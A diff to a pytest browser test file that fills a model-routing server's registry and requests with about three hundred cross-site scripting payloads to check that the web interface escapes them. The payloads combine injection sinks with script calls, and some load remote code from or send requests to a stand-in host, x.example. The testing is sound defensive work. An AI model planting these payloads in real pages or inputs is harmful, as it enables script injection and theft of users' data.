@@ -6,11 +6,28 @@ import signal
 from collections.abc import Iterator
 
 import pytest
+import yaml
 
 from tests.browser.chromium import Browser, found
 from tests.service.server import Server, write_registry
 
 XSS = "<img src=x onerror=alert(1)>"
+SINKS = (
+    "<img src=x onerror={}>", "<svg onload={}>", "<script>{}</script>", "\"><script>{}</script>", "'><svg/onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "<a href=javascript:{}>x</a>", "{{{{{}}}}}", "${{{}}}",
+    "<details open ontoggle={}>", "<math><mi xlink:href=javascript:{}>x", "<style>@import 'javascript:{}'</style>",
+    "<input autofocus onfocus={}>", "<video><source onerror={}>", "</title><script>{}</script>",
+    "<!--><script>{}</script>",
+    "<template><script>{}</script></template>", "<object data=javascript:{}>", "<form action=javascript:{}><button>x",
+)  # fmt: skip
+CALLS = (
+    "alert(1)", "confirm`1`", "prompt(2)", "top.alert(3)", "eval('alert(4)')", "print()", "self['al'+'ert'](5)",
+    "import('//x.example/y.js')", "fetch('//x.example/z')", "document.write(6)", "location='//x.example'",
+    "alert&#40;7&#41;",
+    "new Image().src='//x.example'", "setTimeout('alert(8)')", "Function('alert(9)')()",
+)  # fmt: skip
+PAYLOADS = [sink.format(call) for sink in SINKS for call in CALLS]
+"""Three hundred ways in which text has become script elsewhere."""
 TEXTS = (
     "write a poem about the sea", "recipe for banana bread", "explain the halting problem", "a haiku on autumn",
     "how to roast a chicken", "poem about rain BREAK", "what is the capital of France", "a limerick about a sailor",
@@ -27,12 +44,17 @@ def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
 
 @pytest.fixture(scope="session")
 def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
-    """A server whose registry, requests and metadata are full of markup, with forty requests in its ledger."""
+    """A server whose registry, requests and metadata are full of markup, with 190 requests in its ledger."""
     found()  # nothing is started for tests that will be skipped
     registry = write_registry(tmp_path_factory.mktemp("registry"))
     text = registry.read_text().replace("description: Writes poems", f"description: '{XSS}<script>alert(2)</script>'")
     text = text.replace("description: Knows recipes", f"domain: '{XSS}'\n    description: Knows recipes")
-    registry.write_text(text.replace("aliases: {", f"aliases: {{'{XSS}': poet, "))
+    others = yaml.safe_load(text)
+    others["aliases"] |= {XSS: "poet", **dict.fromkeys(PAYLOADS[:150], "poet")}
+    for number in range(0, len(PAYLOADS), 10):
+        told = {"id": f"spare-{number}", "kind": "scripted", "script": "big.jsonl", "params_b": 1, "context": 64}
+        others["experts"].append(told | {"description": " ".join(PAYLOADS[number : number + 10])})
+    registry.write_text(yaml.safe_dump(others))
     running = Server(tmp_path_factory.mktemp("server"), registry).start()
     try:
         ask(running)
@@ -56,5 +78,8 @@ def ask(running: Server) -> None:
         if number % 4 == 0:
             feedback = {"request_id": answer["shoal"]["request_id"], "score": 1.0, "comment": XSS}
             assert running.post("/v1/feedback", feedback)[0] == 200
+    for payload in PAYLOADS[:150]:
+        body = {"model": payload, "messages": [{"role": "user", "content": payload}], "user": payload}
+        assert running.post("/v1/chat/completions", body)[0] == 200
     for wrong in (XSS, f"auto:{XSS}"):
         running.post("/v1/chat/completions", {"model": f"no{wrong}", "messages": [{"role": "user", "content": XSS}]})
